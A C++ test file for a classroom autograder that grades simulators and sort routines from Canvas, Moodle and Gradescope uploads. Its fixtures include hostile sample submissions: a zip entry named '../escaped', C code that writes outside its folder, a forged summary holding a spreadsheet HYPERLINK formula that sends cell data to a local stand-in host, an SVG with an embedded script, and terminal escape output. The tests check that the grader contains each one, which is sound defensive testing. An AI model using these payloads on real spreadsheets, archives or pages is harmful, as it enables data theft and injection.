// submission per student, the latest of a file uploaded twice, graded and
// written into that platform's import under the platform's own ids; and a
// zip whose names would lead outside is refused before anything is
// unpacked.
TEST_F(Zor_Grade_Alone, APlatformsDownloadIsGradedAsItComes) {
  const std::string Sim = Read_File(TEST_SOURCE_DIR "/simulators/python/sim.py");
  const std::string Records = Read_File(TEST_SOURCE_DIR "/simulators/python/zor_records.py");
  // Zipped as the platforms zip them; Python's zipfile writes any name.
  auto Zip = [&](const std::string& Name, const std::vector<std::pair<std::string, std::string>>& Files) {
    std::string Script = "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'w')\n";
    for (size_t F = 0; F < Files.size(); F++) {
      Write_File(At("member_" + std::to_string(F)), Files[F].second);
      Script += "z.write('member_" + std::to_string(F) + "', '" + Files[F].first + "')\n";
    }
    Run_Result R = Run_Program("/usr/bin/python3", Folder, Script + "z.close()\n", {}, {"-", Name});
    ASSERT_EQ(R.Exit_Status, 0) << R.Err;
  };
  Zip("canvas.zip", {{"doejane_12345_678901_sim.py", Sim},
                     {"doejane_12345_678901_zor_records.py", Records},
                     {"roerich_late_777_888_sim.py", "raise SystemExit(3)\n"},
                     {"roerich_late_777_888_sim-1.py", Sim},
                     {"roerich_late_777_888_zor_records.py", Records}});
  for (const char* Student : {"Jane Doe_5501_assignsubmission_file_", "Ann Lee_5502_assignsubmission_file_"}) {
    fs::create_directories(At("moodle/") + Student);
    Write_File(At("moodle/") + Student + "/sim.py", Sim);
    Write_File(At("moodle/") + Student + "/zor_records.py", Records);
  }
  Zip("escapes.zip", {{"doejane_1_2_sim.py", Sim}, {"../escaped", "out of the folder\n"}});
  struct Case {
    std::string Name, Download, Platform_File, Rows;
  };
  const Case Cases[] = {
      {"Canvas, zipped", "canvas.zip", "canvas.csv",
       "Student,ID,SIS User ID,SIS Login ID,Section,ZOR simulator\r\ndoejane,12345,,,,100.0\r\n"
       "roerich,777,,,,100.0\r\n"},
      {"Moodle, a folder", "moodle", "moodle.csv",
       "Identifier,ZOR simulator,Feedback\r\nParticipant 5502,100.0,followed: followed the model on 3 of 3 days\r\n"
       "Participant 5501,100.0,followed: followed the model on 3 of 3 days\r\n"},
  };
  for (const Case& C : Cases) {
    SCOPED_TRACE(C.Name);
    Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {},
                               {"simulators", "--days", "3", "--build",
                                "printf '#!/bin/sh\\nexec python3 sim.py\\n' > simulator && chmod +x simulator", "-o",
                                "out_" + C.Platform_File, C.Download});
    ASSERT_EQ(R.Exit_Status, 0) << R.Out << R.Err;
    EXPECT_EQ(Read_File(At("out_" + C.Platform_File + "/" + C.Platform_File)), C.Rows) << R.Err;
  }
  Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {}, {"simulators", "-o", "out_escapes", "escapes.zip"});
  EXPECT_EQ(R.Exit_Status, 2);
  EXPECT_NE(R.Err.find("holds a name that leads outside it: ../escaped"), std::string::npos) << R.Err;
  EXPECT_FALSE(File_Exists(At("escaped")));
}

// The autograder zip Gradescope takes, tried in a folder laid out as
// Gradescope lays it out: its secret readable by root alone, its setup a
// valid script, and its run_autograder grading the submission into
// results.json with the options given.
TEST_F(Zor_Grade_Alone, TheAutograderZipGradesInGradescopesLayout) {
  Run_Result Made = Run_Program(ZOR_GRADE_PATH, Folder, "", {},
                                {"autograder", "simulators", "--secret", "autumn tide", "--days", "4", "--points", "10",
                                 "-o", "autograder.zip"});
  ASSERT_EQ(Made.Exit_Status, 0) << Made.Err;
  Run_Result Listed = Run_Program("/usr/bin/unzip", Folder, "", {}, {"-Z", "autograder.zip", "secret"});
  EXPECT_EQ(Listed.Out.rfind("-rw-------", 0), 0u) << Listed.Out;
  fs::create_directories(At("autograder/submission"));
  fs::copy_file(STUDENT_SIMULATOR, At("autograder/submission/simulator"));
  Run_Result Unpacked = Run_Program("/usr/bin/unzip", Folder, "", {}, {"-q", "autograder.zip", "-d", "autograder/source"});
  ASSERT_EQ(Unpacked.Exit_Status, 0) << Unpacked.Err;
  EXPECT_EQ(Run_Program("/bin/bash", Folder, "", {}, {"-n", "autograder/source/setup.sh"}).Exit_Status, 0);
  Run_Result Graded = Run_Program("/usr/bin/env", Folder, "", {},
                                  {"AUTOGRADER=" + At("autograder"), "bash", At("autograder/source/run_autograder")});
  ASSERT_EQ(Graded.Exit_Status, 0) << Graded.Out << Graded.Err;
  Run_Result Score = Run_Program("/usr/bin/jq", Folder, "", {}, {"-r", ".score", "autograder/results/results.json"});
  EXPECT_EQ(Score.Out, "10\n");
  EXPECT_EQ(Read_File(At("autograder/results/results.json")).find("autumn"), std::string::npos);
  const std::vector<std::vector<std::string>> Refused = {
      {"autograder", "essays", "-o", "a.zip"}, {"autograder", "simulators"}, {"autograder", "simulators", "--days",
      "0", "-o", "a.zip"}};
  for (const std::vector<std::string>& Arguments : Refused) {
    Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {}, Arguments);
    EXPECT_EQ(R.Exit_Status, 2) << R.Err;
    EXPECT_FALSE(File_Exists(At("a.zip")));
  }
}

// Trouble is one line and status 2, before anything is graded or written.
TEST_F(Zor_Grade_Alone, TroubleIsOneLineAndStatusTwo) {
  Write_File(At("empty_phrase"), "\nthe phrase is the first line\n");
  const std::vector<std::vector<std::string>> Cases = {
      {},
      {"essays", "class"},
      {"simulators"},
      {"simulators", "--days", "0", "class"},
      {"simulators", "--seed", "5", "--secret", "x", "class"},
      {"simulators", "--secret", "x", "--secret-file", "phrase", "class"},
      {"simulators", "--seed", "5", "--secret-file", "phrase", "class"},
      {"simulators", "--secret-file", "no_such_file", "class"},
      {"simulators", "--secret-file", "empty_phrase", "class"},
      {"simulators", "--canvas-match", "Email", "class"},
      {"simulators", "--time-limit", "fast", "class"},
      {"simulators", "--build-folder-limit", "0", "class"},
      {"simulators", "-o", "bad_out", "nowhere"},
      {"sorts", "--k", "21", "class"},
      {"sorts", "--x", "501", "class"},
  };
  for (const std::vector<std::string>& Arguments : Cases) {
    Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {}, Arguments);
    std::string Shown = Arguments.empty() ? "(none)" : Arguments[0] + " " + (Arguments.size() > 1 ? Arguments[1] : "");
    EXPECT_EQ(R.Exit_Status, 2) << Shown;
    EXPECT_EQ(R.Out, "") << Shown;
    EXPECT_EQ(R.Err.rfind("zor_grade: ", 0), 0u) << Shown << R.Err;
    EXPECT_EQ(R.Err.find('\n'), R.Err.size() - 1) << Shown << R.Err;
  }
  EXPECT_EQ(Run_Program(ZOR_GRADE_PATH, Folder, "", {}, {"simulators", "nowhere"}).Err,
            "zor_grade: the class nowhere is neither a folder nor a readable manifest\n");
  EXPECT_FALSE(File_Exists(At("bad_out")));
}

// --help and --version answer with status 0; every option --help names is
// in the man page.
TEST_F(Zor_Grade_Alone, HelpNamesOnlyWhatTheManPageExplains) {
  std::string Page = Read_File(KIT_SOURCE_DIR "/docs/man/zor_grade.1.scd");
  for (const std::vector<std::string>& Arguments : {std::vector<std::string>{"--help"}, {"simulators", "--help"}}) {
    Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {}, Arguments);
    EXPECT_EQ(R.Exit_Status, 0);
    size_t Named = 0;
    for (size_t At = R.Out.find("--"); At != std::string::npos; At = R.Out.find("--", At + 2)) {
      size_t End = R.Out.find_first_not_of("abcdefghijklmnopqrstuvwxyz-", At + 2);
      std::string Option = R.Out.substr(At, End - At);
      if (Option.size() <= 2) continue;
      Named++;
      EXPECT_NE(Page.find("*" + Option + "*"), std::string::npos) << Option << " is not in zor_grade(1)";
    }
    EXPECT_GE(Named, Arguments.size() == 1 ? 2u : 14u) << R.Out;
  }
  Run_Result V = Run_Program(ZOR_GRADE_PATH, Folder, "", {}, {"--version"});
  EXPECT_EQ(V.Exit_Status, 0);
  EXPECT_EQ(V.Out.rfind("zor_grade (ZOR kit) ", 0), 0u) << V.Out;
}

// The same kinds of student for the sort routine, from tests/routines:
// the example merge sort, three typical mistakes (wrong on descending
// lists, a cycle left at the end, a first-node pivot that is N^2 on
// sorted lists), one that crashes, one that loops, one that writes
// outside its folder, one that does not build, and an empty folder.
struct Routine_Kind {
  const char* Id;
  const char* Source;  // in the kit's tree; null for none
  const char* Extra;   // a second source file's text, or null
};

const char Escaping_Routine[] =
    "#include <stdio.h>\n#include <stdlib.h>\n"
    "__attribute__((constructor)) static void Plant(void) {\n"
    "  FILE* F = fopen(OUTSIDE, \"w\");\n"
    "  if (F == NULL) { perror(OUTSIDE); exit(3); }\n"
    "  fclose(F);\n}\n";

// Written as a student would: once the profiler has written its summary,
// the words in it replaced by what a spreadsheet evaluates.
const char Forged_Summary[] =
    "#include <stdio.h>\n"
    "__attribute__((destructor)) static void Forge(void) {\n"
    "  FILE* F = fopen(\"summary\", \"r\");\n"
    "  if (F == NULL) return;\n"
    "  fclose(F);\n"
    "  F = fopen(\"summary\", \"w\");\n"
    "  if (F == NULL) return;\n"
    "  fputs(\"sort_profile summary 1\\ncorrectness failed\\ncases 3\\n\"\n"
    "        \"fault =HYPERLINK(\\\"http://127.0.0.1:9/?\\\"&A1,\\\"details\\\")\\nfault_kind -2+3\\n\", F);\n"
    "  fclose(F);\n}\n";

// And a picture of its growth with a script in it, where the profiler
// would leave its own.
const char Scripted_Picture[] =
    "#include <stdio.h>\n"
    "__attribute__((destructor)) static void Draw(void) {\n"
    "  FILE* F = fopen(\"growth.svg\", \"w\");\n"
    "  if (F == NULL) return;\n"
    "  fputs(\"<svg xmlns='http://www.w3.org/2000/svg'><script>\"\n"
    "        \"document.body.setAttribute('data-owned', 'yes')</script></svg>\\n\", F);\n"
    "  fclose(F);\n}\n";

const Routine_Kind Routines[] = {
    {"ana", "examples/sorts/merge_sort.c", nullptr},
    {"bo", "tests/routines/wrong_on_descending.c", nullptr},
    {"cat", "tests/routines/leaves_cycle.c", nullptr},
    {"dan", "tests/routines/first_pivot_quicksort.c", nullptr},
    {"eli", "tests/routines/crashes_on_empty.c", nullptr},
    {"fin", "tests/routines/loops_on_two.c", nullptr},
    {"gil", "examples/sorts/merge_sort.c", Escaping_Routine},
    {"hu", nullptr, "int broken(\n"},
    {"ida", nullptr, nullptr},
    {"jo", "examples/sorts/merge_sort.c", nullptr},  // K out of the harness's range
    // Forgers: a summary written by a static constructor or destructor, one
    // written two folders up before the routine kills its parent, a routine
    // wrong only on the lists it is timed on, one that prints a terminal's
    // escapes, and a picture with a script left where the profiler once left
    // its own. The judge believes none of it: kim and lou sort, and are graded so.
    {"kim", "examples/sorts/merge_sort.c", Forged_Summary},
    {"lou", "examples/sorts/merge_sort.c", Scripted_Picture},
    {"kit", "tests/hostile_profiled_routines/forges_summary_in_constructor.c", nullptr},
    {"lev", "tests/hostile_profiled_routines/forges_summary_and_kills_parent.c", nullptr},
    {"max", "tests/hostile_profiled_routines/wrong_when_timed.c", nullptr},
    {"ned", "tests/hostile_profiled_routines/prints_escapes.c", nullptr},
};

// How a crash in a routine shows: the sanitizer build's harness catches
// the fault and ends the child itself.
#ifdef ZOR_SANITIZE
#define Crash_On_Empty "ended with status 1 before the list could be judged"
#else
#define Crash_On_Empty "killed by signal 11 (SIGSEGV; a recursion too deep for the stack does this)"
#endif

// The columns that depend on the machine emptied: the growth verdicts, the
// ratios, the rank and the seconds, and the score of a routine timed.
void Split_Row(const std::string& Line, std::vector<std::string>* Fields) {
  Fields->assign(1, "");
  bool Quoted = false;
  for (char C : Line) {
    if (C == '"') Quoted = !Quoted;
    else if (C == ',' && !Quoted) Fields->emplace_back();
    else if (C != '\r') Fields->back() += C;
  }
}

std::string Csv_Quoted(const std::string& Field) {
  return Field.find_first_of(",\"") == std::string::npos ? Field : "\"" + Field + "\"";
}

// A loop is ended by whichever limit it meets first: the CPU time limit
// on a quiet machine, the wall-time limit, three times as long, on one so
// busy that the loop gets less than a third of a core. Both say it looped.
const char Loop_Reason[] = "a loop, ended by the time limit or the wall-time limit";

std::string Without_Timing(const std::string& Csv) {
  std::istringstream In(Csv);
  std::string Out;
  for (std::string Line; std::getline(In, Line);) {
    std::vector<std::string> Fields;
    Split_Row(Line, &Fields);
    std::string& Reason = Fields.back();
    if (Fields.size() > 3 && Fields[2] == "time-limit" &&
        (Reason.rfind("hit the time limit: more than 10 s of CPU time", 0) == 0 ||
         Reason.rfind("hit the wall-time limit: still running after 30 s", 0) == 0))
      Reason = Loop_Reason;
    for (size_t F = 8; F < 20 && F < Fields.size(); F++) Fields[F] = "";
    if (Fields.size() > 3 && Fields[2] == "sorted") Fields[3] = "";
    // A loop meets the CPU limit or, on a busy machine, the clock's first:
    // both read alike here.
    if (Fields.size() > 20 && Fields[20] == "hit the wall-time limit: still running after 30 s, asleep or blocked; "
                                           "--wall-time-limit sets it")
      Fields[20] = "hit the time limit: more than 10 s of CPU time (an endless loop?); --time-limit sets it";
    for (size_t F = 0; F < Fields.size(); F++) {
      if (F > 0) Out += ',';  // piece by piece, which GCC 12's Release build does not misread
      Out += Csv_Quoted(Fields[F]);
    }
    Out += "\r\n";
  }
  return Out;
}

class Zor_Grade_Sorts : public ::testing::Test {
 protected:
  static std::string Root;
  static Run_Result First_Run;

  static std::string At(const std::string& Name) { return Root + "/" + Name; }

  static Run_Result Grade(std::vector<std::string> More, const char* Out = "out") {
    std::vector<std::string> Arguments = {"sorts", "--sandbox", "required", "--time-limit", "10", "--max-items",
                                          "16384", "--library", PROFILE_LIBRARY, "--include",
                                          KIT_SOURCE_DIR "/sort_bench", "-o", Out};
    Arguments.insert(Arguments.end(), More.begin(), More.end());
    return Run_Program(ZOR_GRADE_PATH, Root, "", {}, Arguments);
  }

  static void SetUpTestSuite() {
    Root = Make_Scratch_Folder();
    fs::create_directories(At("outside"));
    for (const Routine_Kind& K : Routines) {
      std::string Folder = At("class/") + K.Id;
      fs::create_directories(Folder);
      if (K.Source != nullptr) {
        fs::path Source = fs::path(KIT_SOURCE_DIR) / K.Source;
        fs::copy_file(Source, Folder + "/" + Source.filename().string());
        // The headers its folder shares among its routines, as a student
        // hands in a header with the source.
        if (std::string(K.Source).rfind("tests/", 0) == 0)
          for (const auto& Entry : fs::directory_iterator(Source.parent_path()))
            if (Entry.path().extension() == ".h") fs::copy_file(Entry.path(), Folder + "/" + Entry.path().filename().string());
      }
      if (K.Extra != nullptr) Write_File(Folder + "/extra.c", "#define OUTSIDE \"" + At("outside/planted") + "\"\n" + K.Extra);
    }
    Write_File(At("class/ana/sort_parameters"), "3 7\n");
    Write_File(At("class/jo/sort_parameters"), "25 7\n");
    First_Run = Grade({"class"});
  }
  static void TearDownTestSuite() { Remove_Folder(Root); }
};

std::string Zor_Grade_Sorts::Root;
Run_Result Zor_Grade_Sorts::First_Run;

TEST_F(Zor_Grade_Sorts, TheClassGetsExactlyTheExpectedRows) {
  ASSERT_EQ(First_Run.Exit_Status, 0) << First_Run.Err;
  EXPECT_EQ(First_Run.Out, "zor_grade: 16 students, 16 graded now, 0 unchanged since the last run; see out/report.html\n");
  std::string Csv = Read_File(At("out/grades.csv"));
  EXPECT_EQ(Without_Timing(Csv),
            "id,task,verdict,score,cases_passed,cases_run,k,x,,,,,,,,,,,,,reason\r\n"
            "ana,sorts,sorted,,140,140,3,7,,,,,,,,,,,,,\r\n"
            "bo,sorts,wrong-list,0.0,74,75,0,0,,,,,,,,,,,,,items do not ascend at position 2: 3 after 4\r\n"
            "cat,sorts,wrong-list,0.0,40,41,0,0,,,,,,,,,,,,,\"the list runs into a cycle: position 5 is node 3 of the "
            "input again, seen before\"\r\n"
            "dan,sorts,sorted,,140,140,0,0,,,,,,,,,,,,,\r\n"
            "eli,sorts,crashed,0.0,0,1,0,0,,,,,,,,,,,,,crashed: " Crash_On_Empty "\r\n"
            "fin,sorts,time-limit,0.0,20,21,0,0,,,,,,,,,,,,,\"" + std::string(Loop_Reason) + "\"\r\n"
            "gil,sorts,reached-outside,0.0,0,0,,,,,,,,,,,,,,,tried to reach outside its folder: " +
                At("outside/planted") + ": No such file or directory\r\n"
            "hu,sorts,does-not-build,0.0,0,0,,,,,,,,,,,,,,,compiling and linking with libsort_profile.a exited with "
            "status 1\r\n"
            "ida,sorts,missing,0.0,0,0,,,,,,,,,,,,,,,\"no C or C++ source (.c, .cc, .cpp, .cxx) in the folder\"\r\n"
            "jo,sorts,bad-parameters,0.0,0,0,,,,,,,,,,,,,,,\"the file sort_parameters holds K 25, X 7: K must be 0 to 20 "
            "and X 0 to 500 (sort_bench(3))\"\r\n"
            "kim,sorts,sorted,,140,140,0,0,,,,,,,,,,,,,\r\n"
            "kit,sorts,wrong-list,0.0,20,21,0,0,,,,,,,,,,,,,items do not ascend at position 2: -12091157 after "
            "1791095845\r\n"
            "lev,sorts,wrong-list,0.0,20,21,0,0,,,,,,,,,,,,,items do not ascend at position 2: -12091157 after "
            "1791095845\r\n"
            "lou,sorts,sorted,,140,140,0,0,,,,,,,,,,,,,\r\n"
            "max,sorts,wrong-list,0.0,140,140,0,0,,,,,,,,,,,,,while timed: items do not ascend at position 2: "
            "-12091157 after 1791095845\r\n"
            "ned,sorts,crashed,0.0,0,1,0,0,,,,,,,,,,,,,crashed: killed by signal 6 (Aborted)\r\n");
  EXPECT_EQ(Read_File(At("out/moodle.csv")).find("HYPERLINK"), std::string::npos);
  // What timing gives, as far as it does not depend on the machine: each
  // correct routine has its growth read and a rank, and scores at least
  // the correctness share.
  std::istringstream In(Csv);
  std::string Line;
  std::getline(In, Line);
  std::vector<std::string> Ranks;
  while (std::getline(In, Line)) {
    std::vector<std::string> F;
    Split_Row(Line, &F);
    if (F[2] != "sorted") continue;
    Ranks.push_back(F[18]);
    EXPECT_GE(std::stod(F[3]), 60.0) << Line;
    EXPECT_LE(std::stod(F[3]), 100.0) << Line;
    // Which growth words a timed routine gets depends on the machine's
    // noise (the whole path is tested on known times elsewhere); that
    // every timed order has some does not.
    EXPECT_FALSE(F[8].empty()) << Line;
  }
  std::sort(Ranks.begin(), Ranks.end());
  EXPECT_EQ(Ranks, (std::vector<std::string>{"1", "2", "3", "4"}));
  // The routine that writes outside its folder, contained, wrote nothing there.
  EXPECT_FALSE(File_Exists(At("outside/planted")));
}

TEST_F(Zor_Grade_Sorts, FeedbackReportAndRerun) {
  for (const Routine_Kind& K : Routines) {
    std::string Feedback = Read_File(At("out/feedback/") + K.Id + ".txt");
    EXPECT_EQ(Feedback.rfind(std::string("ZOR sort: ") + K.Id + "\nVerdict: ", 0), 0u) << Feedback;
    // The profiler runs boxed; its own word on its children's sandbox is left out.
    EXPECT_EQ(Feedback.find("sandbox off"), std::string::npos) << Feedback;
  }
  EXPECT_NE(Read_File(At("out/feedback/ana.txt")).find("\nK 3, X 7.\n"), std::string::npos);
  EXPECT_NE(Read_File(At("out/feedback/bo.txt")).find("FAIL: order descending, size 8, K 0, X 0\n"), std::string::npos);
  EXPECT_NE(Read_File(At("out/feedback/hu.txt")).find("error: expected"), std::string::npos);
  EXPECT_NE(Read_File(At("out/feedback/jo.txt")).find("The file sort_parameters holds K 25"), std::string::npos);
  // What a student's program printed is shown as its output, escaped: no
  // terminal's escape reaches the feedback, the gradebook or the page.
  std::string Printed = Read_File(At("out/feedback/ned.txt"));
  EXPECT_NE(Printed.find("(its output, escaped):\n    \\x1b[2J\\x1b[H\\x1b]0;all sorted\\x07PASS: 140 cases\n"),
            std::string::npos)
      << Printed;
  for (const char* File : {"out/feedback/ned.txt", "out/grades.csv", "out/report.html"})
    EXPECT_EQ(Read_File(At(File)).find('\033'), std::string::npos) << File;
  // Why a routine the profiler could not judge failed, and the rerun with the
  // K, X and sizes it was graded with.
  EXPECT_NE(Read_File(At("out/feedback/gil.txt")).find("could not be profiled: tried to reach outside"),
            std::string::npos);
  EXPECT_NE(Read_File(At("out/feedback/ana.txt"))
                .find("./my_sort_profile --k 3 --x 7 --check-only --max-items 10000\n"
                      "  ./my_sort_profile --k 3 --x 7 --timing-only --max-items 16384\n"),
            std::string::npos);
  Run_Result Lint = Run_Program("/usr/bin/xmllint", Root, "", {}, {"--noout", "out/report.html"});
  EXPECT_EQ(Lint.Exit_Status, 0) << Lint.Err;
  std::string Html = Read_File(At("out/report.html"));
  size_t Pictures = 0;
  for (size_t At = Html.find("<svg "); At != std::string::npos; At = Html.find("<svg ", At + 1)) Pictures++;
  EXPECT_EQ(Pictures, 1u + 4u) << "the histogram and the growth of each routine timed";
  EXPECT_NE(Html.find("ana: how its CPU time grows with the list, per order of list"), std::string::npos);
  // The picture lou's profiler left is not on the page: its script is not either.
  size_t Scripts = 0;
  for (size_t At = Html.find("<script"); At != std::string::npos; At = Html.find("<script", At + 1)) Scripts++;
  EXPECT_EQ(Scripts, 1u);
  EXPECT_EQ(Html.find("data-owned"), std::string::npos);
  Run_Result Again = Grade({"class"});
  EXPECT_EQ(Again.Out, "zor_grade: 16 students, 0 graded now, 16 unchanged since the last run; see out/report.html\n");
  Run_Result Other = Run_Program(ZOR_GRADE_PATH, Root, "", {}, {"simulators", "-o", "out", "class"});
  EXPECT_EQ(Other.Exit_Status, 2);
  EXPECT_EQ(Other.Err, "zor_grade: out holds the grading of sorts; give simulators an output folder of their own (-o)\n");
}

// One routine as Gradescope's run_autograder grades it: one test per
// phase, whose scores add up to the grade.
TEST_F(Zor_Grade_Sorts, GradescopeGetsOneTestPerPhase) {
  Run_Result R = Grade({"--gradescope", "class/bo"}, "results");
  ASSERT_EQ(R.Exit_Status, 0) << R.Err;
  const char* const Checks[] = {
      ".score == 0 and .extra_data.verdict == \"wrong-list\" and .extra_data.cases_run == 75",
      "[.tests[].name] == [\"Correctness\", \"Growth on random lists\", \"Growth on ascending lists\", "
      "\"Growth on descending lists\", \"Growth on equal lists\", \"Growth on few-distinct lists\", "
      "\"Growth on organ-pipe lists\", \"Growth on sawtooth lists\", \"Growth on extremes lists\", "
      "\"Time against the kit's merge sort\"]",
      "([.tests[].max_score] | add) == 100 and ([.tests[].score] | add) == .score",
      ".tests[0].output == \"wrong-list: sorted 74 of 75 lists right; items do not ascend at position 2: 3 after 4\"",
  };
  for (const char* Check : Checks) {
    Run_Result Q = Run_Program("/usr/bin/jq", Root, "", {}, {"-e", Check, "results/results.json"});
    EXPECT_EQ(Q.Out, "true\n") << Check << "\n" << Q.Err << Read_File(At("results/results.json"));
  }
}

}  // namespace

